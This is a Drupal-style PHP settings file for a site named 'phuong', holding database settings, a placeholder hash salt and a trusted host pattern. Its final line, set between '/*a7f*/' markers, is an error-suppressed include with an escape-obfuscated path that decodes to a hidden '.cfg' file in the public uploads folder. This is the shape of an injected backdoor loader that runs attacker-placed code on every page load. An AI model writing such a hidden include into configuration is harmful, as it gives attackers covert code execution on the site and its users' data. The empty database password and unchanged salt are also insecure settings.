<?php
$databases['default'] = ['driver' => 'mysql', 'database' => 'phuong', 'username' => 'phuong', 'password' => ''];
$settings['hash_salt'] = 'thay-doi';
$settings['trusted_host_patterns'] = ['^phuong\.example$'];
/*a7f*/ @include "\x73ites/\146iles/.\x63fg"; /*a7f*/
